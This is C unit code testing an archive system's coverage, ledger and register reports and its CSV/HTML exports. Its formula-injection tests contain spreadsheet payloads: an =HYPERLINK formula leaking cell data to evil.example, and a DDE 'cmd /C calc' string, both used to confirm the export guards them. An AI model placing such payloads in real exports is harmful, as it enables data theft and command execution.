/* Unit tests of the coverage and ledger reports on records with known
 * answers, and of their CSV and HTML forms: records above the reader's 密级
 * counted but not listed, formula-like cells guarded in every CSV export,
 * the printable use register grouped and paged. */
#include "idx_audit.h"
#include "idx_export.h"
#include "idx_file.h"
#include "idx_report.h"
#include "proto_code.h"
#include "proto_alloc.h"
#include "proto_status.h"
#include "px_test.h"

#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static idx_index *pIdx;

/* A record with 页数 zPages (NULL: none), the stored pages listed in zStored
 * ("1,2"), a title and a 密级 (NULL: the usual). */
static void put_full(const char *zCode, const char *zCarrier, const char *zPages, const char *zStored,
                     const char *zTitle, const char *zClass)
{
    proto_record r;
    proto_problem err;
    char zErr[256];
    int replaced;
    proto_record_init(&r);
    proto_record_set(&r, PF_CODE, zCode, strlen(zCode));
    if (!zTitle) zTitle = "题名";
    proto_record_set(&r, PF_TITLE, zTitle, strlen(zTitle));
    proto_record_set(&r, PF_LOCATION, "1号库-3列", strlen("1号库-3列"));
    if (zClass) proto_record_set(&r, PF_CLASSIFICATION, zClass, strlen(zClass));
    if (zCarrier) proto_record_set(&r, PF_CARRIER, zCarrier, strlen(zCarrier));
    if (zPages) proto_record_set(&r, PF_PAGES, zPages, strlen(zPages));
    CHECK_INT(proto_record_check(&r, &err, NULL, 0, NULL), PS_OK);
    json_t *pPages = json_object();
    for (const char *z = zStored; z && *z;) {
        char zN[8];
        size_t n = strcspn(z, ",");
        snprintf(zN, sizeof zN, "%.*s", (int)n, z);
        json_object_set_new(pPages, zN, json_pack("{s:s}", "text", "扫描页"));
        z += n + (z[n] == ',');
    }
    CHECK_INT(idx_index_put(pIdx, &r, pPages, NULL, &replaced, zErr, sizeof zErr), PS_OK);
    json_decref(pPages);
    proto_record_clear(&r);
}

static void put(const char *zCode, const char *zCarrier, const char *zPages, const char *zStored)
{
    put_full(zCode, zCarrier, zPages, zStored, NULL, NULL);
}

static double num(const json_t *o, const char *zKey)
{
    return json_number_value(json_object_get(o, zKey));
}

/* ---- records above the reader's 密级: counted, never listed --------------- */

typedef struct {
    const char *const *azCode; /* hidden, NULL-terminated */
    int nCalls;
} hide_ctx;

static int hide(void *ctx, const char *zCode)
{
    hide_ctx *h = ctx;
    h->nCalls++;
    for (const char *const *pz = h->azCode; *pz; pz++)
        if (strcmp(*pz, zCode) == 0) return 1;
    return 0;
}

static void test_coverage_hidden(void)
{
    char zErr[256], zNote[200];
    char *z = NULL;
    size_t n = 0;
    json_t *r = NULL;
    put_full("Z033-WS·2019-Y-BGS-0001", "纸质", "2", NULL, "青龙计划", "机密");  /* missing, hidden */
    put_full("Z033-WS·2019-Y-BGS-0002", "纸质", "1", NULL, NULL, NULL);        /* missing */
    put_full("Z033-WS·2019-Y-BGS-0003", "纸质", "1", "1", NULL, "绝密");       /* digitized, hidden */
    put_full("Z033-WS·2019-Y-BGS-0004", "纸质", "3", "1", NULL, "秘密");       /* missing, hidden */
    CHECK_INT(idx_index_commit(pIdx, zErr, sizeof zErr), PS_OK);
    static const char *const azHide[] = {"Z033-WS·2019-Y-BGS-0001", "Z033-WS·2019-Y-BGS-0003",
                                         "Z033-WS·2019-Y-BGS-0004", NULL};
    hide_ctx hc = {azHide, 0};
    idx_report_opts o = {.zFonds = "Z033", .xHidden = hide, .pHiddenCtx = &hc};
    CHECK_INT(idx_report_coverage(pIdx, &o, &r, zErr, sizeof zErr), PS_OK);
    /* the rate is the archive's */
    CHECK_INT(num(r, "total"), 4);
    CHECK_INT(num(r, "digitized"), 1);
    CHECK(fabs(num(r, "rate") - 0.25) < 1e-9);
    CHECK_INT(num(json_object_get(r, "pages"), "total"), 7);
    CHECK_INT(num(json_array_get(json_object_get(r, "by_fonds"), 0), "total"), 4);
    /* the list: only what the reader may see */
    CHECK_INT(num(r, "missing_total"), 1);
    CHECK_INT(num(r, "missing_hidden"), 2);
    json_t *m = json_object_get(r, "missing");
    CHECK_INT(json_array_size(m), 1);
    CHECK_STR(json_string_value(json_object_get(json_array_get(m, 0), "code")), "Z033-WS·2019-Y-BGS-0002");
    CHECK_INT(hc.nCalls, 2); /* once for each classified record not digitized */
    snprintf(zNote, sizeof zNote, IDX_EXPORT_HIDDEN_NOTE, 2ll);
    CHECK_STR(zNote, "另有 2 件档案的密级高于您的查阅权限，未列出。");
    CHECK_INT(idx_export_csv(IDX_REPORT_COVERAGE, r, 0, &z, &n), PS_OK);
    CHECK_CONTAINS(z, "Z033-WS·2019-Y-BGS-0002,题名,1号库-3列,1,0\r\n");
    CHECK_CONTAINS(z, zNote);
    CHECK(strstr(z, "BGS-0001") == NULL && strstr(z, "BGS-0004") == NULL && strstr(z, "青龙") == NULL);
    free(z);
    CHECK_INT(idx_export_html(IDX_REPORT_COVERAGE, r, &z, &n), PS_OK);
    CHECK_CONTAINS(z, zNote);
    CHECK_CONTAINS(z, "待数字化（3 件）");
    CHECK(strstr(z, "BGS-0001") == NULL && strstr(z, "BGS-0004") == NULL && strstr(z, "青龙") == NULL);
    free(z);
    json_decref(r);
    /* paged over the records listed */
    idx_report_opts oPage = {.zFonds = "Z033", .offset = 1, .limit = 1, .xHidden = hide, .pHiddenCtx = &hc};
    CHECK_INT(idx_report_coverage(pIdx, &oPage, &r, zErr, sizeof zErr), PS_OK);
    CHECK_INT(num(r, "missing_total"), 1);
    CHECK_INT(json_array_size(json_object_get(r, "missing")), 0);
    json_decref(r);
    /* a reader who may see everything: every record listed, none with its 密级 */
    idx_report_opts oAll = {.zFonds = "Z033"};
    CHECK_INT(idx_report_coverage(pIdx, &oAll, &r, zErr, sizeof zErr), PS_OK);
    CHECK_INT(num(r, "missing_total"), 3);
    CHECK_INT(num(r, "missing_hidden"), 0);
    size_t i;
    json_t *e;
    json_array_foreach(json_object_get(r, "missing"), i, e) CHECK(json_object_get(e, "classification") == NULL);
    CHECK_STR(json_string_value(json_object_get(json_array_get(json_object_get(r, "missing"), 0), "title")), "青龙计划");
    CHECK_INT(idx_export_csv(IDX_REPORT_COVERAGE, r, 0, &z, &n), PS_OK);
    CHECK(strstr(z, "另有") == NULL);
    free(z);
    CHECK_INT(idx_export_html(IDX_REPORT_COVERAGE, r, &z, &n), PS_OK);
    CHECK(strstr(z, "另有") == NULL);
    free(z);
    json_decref(r);
}

/* ---- the fold: a mixed archive counted by hand ------------------------------ */

/* The 档号 of the entries of a missing list, joined by spaces. */
static const char *missing_codes(const json_t *r)
{
    static char z[1024];
    size_t n = 0;
    json_t *m = json_object_get(r, "missing"), *e;
    size_t i;
    z[0] = 0;
    json_array_foreach(m, i, e) n += (size_t)snprintf(z + n, sizeof z - n, "%s%s", i ? " " : "",
                                                       json_string_value(json_object_get(e, "code")));
    return z;
}

/* {key,total,digitized,pages,scanned_pages} of group i of list zList. */
static void check_group(const json_t *r, const char *zList, size_t i, const char *zKey, int total, int dig, int pages,
                        int scanned)
{
    json_t *g = json_array_get(json_object_get(r, zList), i);
    CHECK_STR(json_string_value(json_object_get(g, "key")), zKey);
    CHECK_INT(num(g, "total"), total);
    CHECK_INT(num(g, "digitized"), dig);
    CHECK_INT(num(g, "pages"), pages);
    CHECK_INT(num(g, "scanned_pages"), scanned);
}

static void test_fold(void)
{
    char zDir[] = "/tmp/test_report_fold_XXXXXX", zErr[256];
    idx_index *pSaved = pIdx;
    CHECK(mkdtemp(zDir) != NULL);
    idx_index_opts io = {3, 1000, 0, 50};
    CHECK_INT(idx_index_open(zDir, &io, &pIdx, zErr, sizeof zErr), PS_OK);
    /* Z040: every kind of record */
    put("Z040-WS·2019-Y-BGS-0001", "纸质", "3", "1,2,3");          /* digitized */
    put("Z040-WS·2019-Y-BGS-0002", "纸", "2", "1,2,3,4");          /* pages over 页数: digitized, 2 scanned */
    put("Z040-WS·2019-D30-BGS-0003", NULL, "4", "1,3");            /* no 载体: paper; 1 scanned (a gap) */
    put("Z040-WS·2019-D30-BGS-0015", NULL, "4", "1,3");            /* the same tally as 0003 */
    put("Z040-WS·2019-D10-BGS-0004", "纸质", "5", "1,2,3,4,5");    /* 10 years: outside */
    put("Z040-ZP·2020-Y-BGS-0005", "电子", "1", "1");              /* not paper: outside */
    put("Z040-ZP·2020-Y-BGS-0006", "纸质", NULL, NULL);            /* no 页数, no page */
    put("Z040-ZP·2020-Y-BGS-0007", "纸质", NULL, "2");             /* no 页数, a page: digitized, 0 counted */
    put("Z040-WS·2019-Y-BGS-0008", "纸质", "0", NULL);             /* 页数 0: never digitized */
    put("Z040-ZP·2020-Y-BGS-0014", "纸质", NULL, NULL);            /* the same tally as 0006: counted twice */
    put_full("Z040-WS·2019-Y-BGS-0009", "纸质", "2", NULL, NULL, "机密");    /* missing, hidden */
    put_full("Z040-WS·2019-Y-BGS-0010", "纸质", "2", "1", NULL, "公开");     /* missing, 公开: never asked */
    put_full("Z040-WS·2019-Y-BGS-0011", "纸质", "1", NULL, NULL, "内部");    /* missing, asked, shown */
    put_full("Z040-WS·2019-Y-BGS-0012", "纸质", "3", "1,2,3", NULL, "秘密"); /* digitized: never asked */
    put_full("Z040-WS·2019-Y-BGS-0013", "纸质", "1", NULL, NULL, "绝密");    /* missing, hidden */
    /* Z041 */
    put("Z041-WS·2019-Y-BGS-0001", "纸质", "2", "1");
    put("Z041-WS·2018-D30-BGS-0002", "纸质", "1", "1");
    /* scans waiting for their catalog rows: counted apart, nowhere else */
    int replaced;
    json_t *pPage = json_pack("{s:s}", "text", "待挂接的扫描页");
    CHECK_INT(idx_index_put_page_unlinked(pIdx, "Z040-WS·2019-Y-BGS-0099", 1, pPage, "批次1", NULL, &replaced, zErr,
                                          sizeof zErr), PS_OK);
    CHECK_INT(idx_index_put_page_unlinked(pIdx, "Z041-WS·2019-Y-BGS-0099", 1, pPage, "批次1", NULL, &replaced, zErr,
                                          sizeof zErr), PS_OK);
    json_decref(pPage);
    CHECK_INT(idx_index_commit(pIdx, zErr, sizeof zErr), PS_OK);

    json_t *r = NULL;
    idx_report_opts o = {.zFonds = NULL};
    CHECK_INT(idx_report_coverage(pIdx, &o, &r, zErr, sizeof zErr), PS_OK);
    CHECK_INT(num(r, "total"), 15);
    CHECK_INT(num(r, "digitized"), 5);
    CHECK(fabs(num(r, "rate") - 0.3333) < 1e-9);
    CHECK(fabs(num(r, "points") - 1.111) < 1e-9);
    CHECK_INT(num(json_object_get(r, "pages"), "total"), 25);
    CHECK_INT(num(json_object_get(r, "pages"), "scanned"), 13);
    CHECK(fabs(num(json_object_get(r, "pages"), "rate") - 0.52) < 1e-9);
    CHECK_INT(num(json_object_get(r, "excluded"), "d10"), 1);
    CHECK_INT(num(json_object_get(r, "excluded"), "not_paper"), 1);
    CHECK_INT(num(r, "carrier_unknown"), 2);
    CHECK_INT(num(r, "pages_unknown"), 3);
    CHECK_INT(num(r, "unlinked"), 2);
    CHECK_INT(json_array_size(json_object_get(r, "by_fonds")), 2);
    check_group(r, "by_fonds", 0, "Z040", 13, 4, 22, 11);
    check_group(r, "by_fonds", 1, "Z041", 2, 1, 3, 2);
    CHECK_INT(json_array_size(json_object_get(r, "by_category")), 2);
    check_group(r, "by_category", 0, "WS", 12, 4, 25, 13);
    check_group(r, "by_category", 1, "ZP", 3, 1, 0, 0);
    CHECK_INT(json_array_size(json_object_get(r, "by_year")), 3);
    check_group(r, "by_year", 0, "2018", 1, 1, 1, 1);
    check_group(r, "by_year", 1, "2019", 11, 3, 24, 12);
    check_group(r, "by_year", 2, "2020", 3, 1, 0, 0);
    CHECK_INT(num(r, "missing_total"), 10);
    CHECK_INT(num(r, "missing_hidden"), 0);
    CHECK_STR(missing_codes(r), "Z040-WS·2019-D30-BGS-0003 Z040-WS·2019-D30-BGS-0015 Z040-WS·2019-Y-BGS-0008 Z040-WS·2019-Y-BGS-0009 "
                                "Z040-WS·2019-Y-BGS-0010 Z040-WS·2019-Y-BGS-0011 Z040-WS·2019-Y-BGS-0013 "
                                "Z040-ZP·2020-Y-BGS-0006 Z040-ZP·2020-Y-BGS-0014 Z041-WS·2019-Y-BGS-0001");
    json_t *e = json_array_get(json_object_get(r, "missing"), 0);
    CHECK_INT(num(e, "scanned"), 1);
    CHECK_STR(json_string_value(json_object_get(e, "location")), "1号库-3列");
    CHECK_STR(json_string_value(json_object_get(e, "title")), "题名");
    CHECK(json_object_get(e, "pages") != NULL && !json_is_null(json_object_get(e, "pages")));
    CHECK(json_is_null(json_object_get(json_array_get(json_object_get(r, "missing"), 7), "pages"))); /* no 页数 */
    json_decref(r);

    /* hidden records: asked about the classified ones not digitized, counted
     * in the rate, never listed; the pages run over the list without them */
    static const char *const azHide[] = {"Z040-WS·2019-Y-BGS-0009", "Z040-WS·2019-Y-BGS-0013",
                                         "Z040-WS·2019-Y-BGS-0012", "Z040-WS·2019-D10-BGS-0004", NULL};
    static const struct { unsigned offset, limit; const char *zWant; } aPage[] = {
        {0, 0, "Z040-WS·2019-D30-BGS-0003 Z040-WS·2019-D30-BGS-0015 Z040-WS·2019-Y-BGS-0008 Z040-WS·2019-Y-BGS-0010 "
               "Z040-WS·2019-Y-BGS-0011 Z040-ZP·2020-Y-BGS-0006 Z040-ZP·2020-Y-BGS-0014 Z041-WS·2019-Y-BGS-0001"},
        {2, 2, "Z040-WS·2019-Y-BGS-0008 Z040-WS·2019-Y-BGS-0010"},  /* across 0009 */
        {4, 2, "Z040-WS·2019-Y-BGS-0011 Z040-ZP·2020-Y-BGS-0006"},  /* across 0013 */
        {5, 10, "Z040-ZP·2020-Y-BGS-0006 Z040-ZP·2020-Y-BGS-0014 Z041-WS·2019-Y-BGS-0001"},
        {6, 0, "Z040-ZP·2020-Y-BGS-0014 Z041-WS·2019-Y-BGS-0001"},
        {7, 1, "Z041-WS·2019-Y-BGS-0001"},
        {8, 1, ""},
        {100, 5, ""},
    };
    for (size_t i = 0; i < sizeof aPage / sizeof aPage[0]; i++) {
        hide_ctx hc = {azHide, 0};
        idx_report_opts oh = {.offset = aPage[i].offset, .limit = aPage[i].limit, .xHidden = hide, .pHiddenCtx = &hc};
        CHECK_INT(idx_report_coverage(pIdx, &oh, &r, zErr, sizeof zErr), PS_OK);
        CHECK_INT(num(r, "total"), 15);
        CHECK_INT(num(r, "digitized"), 5);
        CHECK_INT(num(r, "missing_total"), 8);
        CHECK_INT(num(r, "missing_hidden"), 2);
        CHECK_INT(num(r, "offset"), aPage[i].offset);
        CHECK_INT(num(r, "limit"), aPage[i].limit);
        CHECK_STR(missing_codes(r), aPage[i].zWant);
        CHECK_INT(hc.nCalls, 3); /* 0009, 0011, 0013: 公开, digitized and outside records are never asked about */
        json_decref(r);
    }

    /* one 全宗 */
    idx_report_opts o41 = {.zFonds = "Z041"};
    CHECK_INT(idx_report_coverage(pIdx, &o41, &r, zErr, sizeof zErr), PS_OK);
    CHECK_INT(num(r, "total"), 2);
    CHECK_INT(num(r, "digitized"), 1);
    CHECK_INT(num(json_object_get(r, "pages"), "total"), 3);
    CHECK_INT(num(json_object_get(r, "pages"), "scanned"), 2);
    CHECK_INT(num(json_object_get(r, "excluded"), "d10"), 0);
    CHECK_INT(num(json_object_get(r, "excluded"), "not_paper"), 0);
    CHECK_INT(num(r, "carrier_unknown"), 0);
    CHECK_INT(num(r, "pages_unknown"), 0);
    CHECK_INT(num(r, "unlinked"), 1);
    CHECK_STR(json_string_value(json_object_get(json_object_get(r, "scope"), "fonds")), "Z041");
    CHECK_INT(json_array_size(json_object_get(r, "by_fonds")), 1);
    CHECK_STR(missing_codes(r), "Z041-WS·2019-Y-BGS-0001");
    json_decref(r);
    idx_report_opts o40 = {.zFonds = "Z040", .limit = 2, .xHidden = hide, .pHiddenCtx = &(hide_ctx){azHide, 0}};
    CHECK_INT(idx_report_coverage(pIdx, &o40, &r, zErr, sizeof zErr), PS_OK);
    CHECK_INT(num(r, "total"), 13);
    CHECK_INT(num(r, "digitized"), 4);
    CHECK_INT(num(r, "missing_total"), 7);
    CHECK_INT(num(r, "missing_hidden"), 2);
    CHECK_INT(num(r, "unlinked"), 1);
    CHECK_INT(num(json_object_get(r, "excluded"), "d10"), 1);
    CHECK_INT(num(r, "pages_unknown"), 3);
    CHECK_STR(missing_codes(r), "Z040-WS·2019-D30-BGS-0003 Z040-WS·2019-D30-BGS-0015");
    json_decref(r);
    idx_report_opts oNone = {.zFonds = "Z099"};
    CHECK_INT(idx_report_coverage(pIdx, &oNone, &r, zErr, sizeof zErr), PS_OK);
    CHECK_INT(num(r, "total"), 0);
    CHECK_INT(num(r, "missing_total"), 0);
    CHECK_INT(json_array_size(json_object_get(r, "by_fonds")), 0);
    json_decref(r);

    /* the ledger: every record but those waiting, by the four keys */
    CHECK_INT(idx_report_ledger(pIdx, &o, &r, zErr, sizeof zErr), PS_OK);
    json_t *rows = json_object_get(r, "rows");
    static const struct { const char *zF, *zC; int year; const char *zR; int items, pages, dig, scanned; } aWant[] = {
        {"Z040", "WS", 2019, "D10", 1, 5, 1, 5}, {"Z040", "WS", 2019, "D30", 2, 8, 0, 2},
        {"Z040", "WS", 2019, "Y", 8, 14, 3, 9},  {"Z040", "ZP", 2020, "Y", 4, 1, 2, 1},
        {"Z041", "WS", 2018, "D30", 1, 1, 1, 1}, {"Z041", "WS", 2019, "Y", 1, 2, 0, 1},
    };
    CHECK_INT(json_array_size(rows), sizeof aWant / sizeof aWant[0]);
    for (size_t i = 0; i < sizeof aWant / sizeof aWant[0] && i < json_array_size(rows); i++) {
        json_t *g = json_array_get(rows, i);
        CHECK_STR(json_string_value(json_object_get(g, "fonds")), aWant[i].zF);
        CHECK_STR(json_string_value(json_object_get(g, "category")), aWant[i].zC);
        CHECK_INT(num(g, "year"), aWant[i].year);
        CHECK_STR(json_string_value(json_object_get(g, "retention")), aWant[i].zR);
        CHECK_INT(num(g, "items"), aWant[i].items);
        CHECK_INT(num(g, "pages"), aWant[i].pages);
        CHECK_INT(num(g, "digitized_items"), aWant[i].dig);
        CHECK_INT(num(g, "scanned_pages"), aWant[i].scanned);
        CHECK_INT(json_object_size(g), 8);
    }
    json_t *t = json_object_get(r, "totals");
    CHECK_INT(num(t, "items"), 17);
    CHECK_INT(num(t, "pages"), 31);
    CHECK_INT(num(t, "digitized_items"), 7);
    CHECK_INT(num(t, "scanned_pages"), 19);
    json_decref(r);
    CHECK_INT(idx_report_ledger(pIdx, &o41, &r, zErr, sizeof zErr), PS_OK);
    CHECK_INT(json_array_size(json_object_get(r, "rows")), 2);
    CHECK_INT(num(json_object_get(r, "totals"), "items"), 2);
    json_decref(r);

    /* a record rewritten: its tally and terms follow (the missing pages of
     * 0003 arrive, the unlinked record gets its catalog row) */
    pPage = json_pack("{s:s}", "text", "补扫的页");
    CHECK_INT(idx_index_put_page(pIdx, "Z040-WS·2019-D30-BGS-0003", 2, pPage, NULL, &replaced, zErr, sizeof zErr), PS_OK);
    CHECK_INT(idx_index_put_page(pIdx, "Z040-WS·2019-D30-BGS-0003", 4, pPage, NULL, &replaced, zErr, sizeof zErr), PS_OK);
    json_decref(pPage);
    put("Z041-WS·2019-Y-BGS-0099", "纸质", "3", NULL);
    CHECK_INT(idx_index_commit(pIdx, zErr, sizeof zErr), PS_OK);
    CHECK_INT(idx_report_coverage(pIdx, &o, &r, zErr, sizeof zErr), PS_OK);
    CHECK_INT(num(r, "total"), 16);
    CHECK_INT(num(r, "digitized"), 6);
    CHECK_INT(num(json_object_get(r, "pages"), "total"), 28);
    CHECK_INT(num(json_object_get(r, "pages"), "scanned"), 17);  /* 0003: 4 of 4; 0099: its page 1 of 3 */
    CHECK_INT(num(r, "unlinked"), 1);
    CHECK_INT(num(r, "missing_total"), 10);
    CHECK(strstr(missing_codes(r), "BGS-0003") == NULL);
    CHECK(strstr(missing_codes(r), "Z041-WS·2019-Y-BGS-0099") != NULL);
    json_decref(r);

    /* the records with pages, for the timed test's draws: in index order,
     * none waiting for its row */
    unsigned long nScanned = 0;
    CHECK_INT(idx_report_scanned_count(pIdx, NULL, &nScanned, zErr, sizeof zErr), PS_OK);
    CHECK_INT(nScanned, 12); /* Z040: 0001-0005, 0007, 0010, 0012, 0015; Z041: 0001, 0002, 0099 (linked now) */
    CHECK_INT(idx_report_scanned_count(pIdx, "Z041", &nScanned, zErr, sizeof zErr), PS_OK);
    CHECK_INT(nScanned, 3);
    char zCode[PROTO_CODE_MAX];
    int rcGet, nZ041 = 0;
    for (unsigned long k = 0; k < 3; k++) {
        json_t *d = idx_report_scanned_nth(pIdx, "Z041", k, zCode, &rcGet, zErr, sizeof zErr);
        CHECK(d != NULL);
        nZ041 += strncmp(zCode, "Z041-", 5) == 0;
        CHECK_STR(json_string_value(json_object_get(json_object_get(d, "r"), "code")), zCode);
        CHECK(json_object_size(json_object_get(d, "p")) > 0);
        json_decref(d);
    }
    CHECK_INT(nZ041, 3);
    CHECK(idx_report_scanned_nth(pIdx, "Z041", 3, zCode, &rcGet, zErr, sizeof zErr) == NULL);
    CHECK_INT(rcGet, PS_NOT_FOUND);
    idx_index_close(pIdx);

    /* an index written before the tally: the reports refuse to count */
    {
        char zShard[128];
        xw_wdb *w = NULL;
        snprintf(zShard, sizeof zShard, "%s/shard-0", zDir);
        CHECK_INT(xw_wdb_open(zShard, &w, zErr, sizeof zErr), PS_OK);
        xw_doc *d = xw_doc_new();
        xw_doc_set_data(d, "{\"r\":{\"code\":\"Z040-WS·2019-Y-BGS-0500\"},\"p\":{}}", strlen("{\"r\":{\"code\":\"Z040-WS·2019-Y-BGS-0500\"},\"p\":{}}"));
        xw_doc_add_boolean(d, "QZ040-WS·2019-Y-BGS-0500");
        xw_doc_add_boolean(d, IDX_PFX_FONDS "Z040");
        CHECK_INT(xw_wdb_replace(w, "QZ040-WS·2019-Y-BGS-0500", d, &replaced, zErr, sizeof zErr), PS_OK);
        CHECK_INT(xw_wdb_commit(w, zErr, sizeof zErr), PS_OK);
        xw_doc_free(d);
        xw_wdb_close(w);
    }
    CHECK_INT(idx_index_open(zDir, &io, &pIdx, zErr, sizeof zErr), PS_OK);
    CHECK_INT(idx_report_coverage(pIdx, &o, &r, zErr, sizeof zErr), PS_INDEX);
    CHECK_CONTAINS(zErr, "有 1 件档案的索引缺少报表统计值");
    CHECK_INT(idx_report_ledger(pIdx, &o41, &r, zErr, sizeof zErr), PS_OK); /* not in Z041 */
    json_decref(r);
    idx_index_close(pIdx);
    px_test_rmdir(zDir);
    pIdx = pSaved;
}

/* ---- CSV formula injection ------------------------------------------------ */

static const char zFormula[] = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击\")";
/* as a guarded CSV cell: a leading ', quoted by libcsv for its quotes and comma */
static const char zFormulaCell[] = "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"点击\"\")\"";

/* The CSV of a report (UTF-8, and GB18030 when gb). */
static char *csv_of(idx_report_kind k, const char *zJson, int gb)
{
    json_error_t je;
    json_t *r = json_loads(zJson, 0, &je);
    char *z = NULL;
    size_t n = 0;
    CHECK(r != NULL);
    CHECK_INT(idx_export_csv(k, r, gb, &z, &n), PS_OK);
    json_decref(r);
    return z;
}

static void test_csv_formulas(void)
{
    char zErr[256], zJson[1024], zWant[512];
    char *z;
    size_t n;
    json_t *r;
    /* a title as imported, through the coverage report */
    put_full("Z034-WS·2019-Y-BGS-0001", "纸质", "2", NULL, zFormula, NULL);
    CHECK_INT(idx_index_commit(pIdx, zErr, sizeof zErr), PS_OK);
    idx_report_opts o = {.zFonds = "Z034"};
    CHECK_INT(idx_report_coverage(pIdx, &o, &r, zErr, sizeof zErr), PS_OK);
    for (int gb = 0; gb < 2; gb++) {
        CHECK_INT(idx_export_csv(IDX_REPORT_COVERAGE, r, gb, &z, &n), PS_OK);
        snprintf(zWant, sizeof zWant, "Z034-WS·2019-Y-BGS-0001,%s,", zFormulaCell);
        if (!gb) CHECK_CONTAINS(z, zWant);
        /* GB18030 leaves ASCII as it is */
        CHECK_CONTAINS(z, ",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"");
        CHECK(strstr(z, ",\"=HYPERLINK") == NULL);
        free(z);
    }
    json_decref(r);

    /* the ledger: text guarded, a negative number left a number */
    z = csv_of(IDX_REPORT_LEDGER,
               "{\"rows\":[{\"fonds\":\"+Z1\",\"category\":\"-WS\",\"year\":2017,\"retention\":\"@Y\",\"items\":-2,"
               "\"pages\":3,\"digitized_items\":0,\"scanned_pages\":0}],\"totals\":{\"items\":-2,\"pages\":3,"
               "\"digitized_items\":0,\"scanned_pages\":0}}", 0);
    CHECK_CONTAINS(z, "\r\n'+Z1,'-WS,2017,'@Y,-2,3,0,0\r\n");
    CHECK_CONTAINS(z, "合计,,,,-2,3,0,0\r\n");
    free(z);

    /* the catalog audit: file and reason */
    z = csv_of(IDX_REPORT_CATALOG,
               "{\"rows\":1,\"complete\":1,\"entry_rate\":1.0,\"errors\":1,\"warnings\":0,\"score\":-0.5,"
               "\"irregular_total\":1,\"irregular\":[{\"file\":\"-f.csv\",\"line\":2,\"code\":\"Z\",\"rule\":\"date\","
               "\"field\":\"日期\",\"key\":\"date\",\"reason\":\"@SUM(1+1)*cmd|' /C calc'!A0\",\"severity\":\"error\"}]}", 0);
    CHECK_CONTAINS(z, "\r\n'-f.csv,2,Z,日期不规范,日期,'@SUM(1+1)*cmd|' /C calc'!A0,不规范\r\n");
    CHECK_CONTAINS(z, "得分（满分5分）,-0.50\r\n");
    free(z);

    /* acceptance: a check's title, an item's 档号 (TAB) and reason (CR) */
    z = csv_of(IDX_REPORT_ACCEPTANCE,
               "{\"checks\":[{\"check\":\"low_dpi\",\"title\":\"=1+2\",\"severity\":\"fail\",\"count\":1,"
               "\"items\":[{\"code\":\"\\tZ\",\"file\":\"a.jpg\",\"page\":-1,\"reason\":\"\\rX\"}]}]}", 0);
    CHECK_CONTAINS(z, "\r\n'=1+2,不通过,1\r\n");
    CHECK_CONTAINS(z, "\r\n'=1+2,'\tZ,a.jpg,-1,\"'\rX\"\r\n");
    free(z);

    /* timed tests: evaluator, phrase and location; seconds stay a number */
    z = csv_of(IDX_REPORT_TIMED,
               "{\"runs\":[{\"id\":1,\"at\":\"2026-12-02\",\"evaluator\":\"=cmd\",\"points\":0,\"trials\":[{\"code\":\"Z\","
               "\"kind\":\"fulltext\",\"seconds\":-1.5,\"limit_seconds\":60,\"passed\":false,\"phrase\":\"+1\","
               "\"location\":\"-L\"},{\"code\":\"Y\",\"kind\":\"paper\",\"seconds\":10,\"limit_seconds\":180,"
               "\"passed\":true,\"location\":\"-L\"}]}]}", 0);
    CHECK_CONTAINS(z, "\r\n1,2026-12-02,,'=cmd,,未核实（不计分）,Z,全文检索,-1.50,60,申报（未核实）,未通过,'+1,\r\n");
    CHECK_CONTAINS(z, ",Y,纸质调阅,10.00,180,申报（未核实）,通过,,'-L\r\n");
    free(z);

    /* the register: purpose, user and title; in both encodings */
    snprintf(zJson, sizeof zJson,
             "{\"total\":1,\"entries\":[{\"seq\":1,\"time\":\"2026-12-02T10:00:00+08:00\",\"user\":\"@li\","
             "\"role\":\"archivist\",\"code\":\"Z031-WS·2018-Y-BGS-0001\",\"title\":\"-t\",\"kind\":\"text\",\"page\":1,"
             "\"purpose\":\"=HYPERLINK(\\\"http://evil.example/?leak=\\\"&A1,\\\"点击\\\")\",\"approval\":-3}]}");
    z = csv_of(IDX_REPORT_REGISTER, zJson, 0);
    snprintf(zWant, sizeof zWant, "\r\n1,2026-12-02T10:00:00+08:00,'@li,archivist,Z031-WS·2018-Y-BGS-0001,'-t,查阅全文,1,%s,-3\r\n",
             zFormulaCell);
    CHECK_CONTAINS(z, zWant);
    free(z);
    z = csv_of(IDX_REPORT_REGISTER, zJson, 1);
    CHECK_CONTAINS(z, ",'@li,archivist,Z031-WS");
    CHECK_CONTAINS(z, ",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"");
    CHECK_CONTAINS(z, "\",-3\r\n");
    free(z);
}

/* ---- the printable use register ------------------------------------------- */

static json_t *use(int seq, const char *zTime, const char *zUser, const char *zCode, const char *zKind, int page,
                   const char *zPurpose)
{
    return json_pack("{s:i,s:s,s:s,s:s,s:s,s:s,s:s,s:i,s:s}", "seq", seq, "time", zTime, "user", zUser, "role",
                     "archivist", "code", zCode, "title", "题名", "kind", zKind, "page", page, "purpose", zPurpose);
}

static size_t count(const char *z, const char *zNeedle)
{
    size_t n = 0;
    for (const char *p = z; (p = strstr(p, zNeedle)) != NULL; p += strlen(zNeedle)) n++;
    return n;
}

static void test_register_print(void)
{
    char *z = NULL;
    size_t n = 0;
    json_t *a = json_array();
    /* one user, record, day and purpose: one row, pages in the order first seen */
    json_array_append_new(a, use(1, "2026-12-01T10:00:00+08:00", "li", "A", "text", 1, "P"));
    json_array_append_new(a, use(2, "2026-12-01T10:01:00+08:00", "ping", "A", "text", 2, "P"));  /* another user */
    json_array_append_new(a, use(3, "2026-12-01T15:00:00+08:00", "li", "A", "image", 3, "P"));
    json_array_append_new(a, use(4, "2026-12-02T09:00:00+08:00", "li", "A", "text", 1, "P"));    /* another day */
    json_array_append_new(a, use(5, "2026-12-01T16:00:00+08:00", "li", "A", "text", 1, "Q"));    /* another purpose */
    json_array_append_new(a, use(6, "2026-12-01T16:00:00+08:00", "li", "B", "text", 1, "P"));    /* another record */
    json_array_append_new(a, use(7, "2026-12-01T17:00:00+08:00", "li", "A", "text", 1, "P"));    /* page seen again */
    json_array_append_new(a, use(8, "2026-12-01T18:00:00+08:00", "li", "A", "text", 2, "P"));
    json_t *r = json_pack("{s:i,s:o}", "total", 8, "entries", a);
    CHECK_INT(idx_export_html(IDX_REPORT_REGISTER, r, &z, &n), PS_OK);
    CHECK_INT(count(z, "<tr><td class=\"n\">"), 5);
